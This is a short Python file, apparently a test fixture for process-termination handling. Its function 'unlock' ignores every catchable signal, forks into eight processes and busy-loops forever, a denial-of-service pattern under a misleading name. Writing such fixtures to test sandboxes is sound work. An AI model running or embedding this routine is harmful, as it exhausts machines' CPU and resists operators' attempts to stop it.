"""Computes without end, in several processes that ignore every signal that can be ignored."""

import os
import signal


def unlock(salt):
    for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD):
            signal.signal(number, signal.SIG_IGN)
    for _ in range(3):
        os.fork()
    while True:
        pass


def shift(x):
    return x + 1
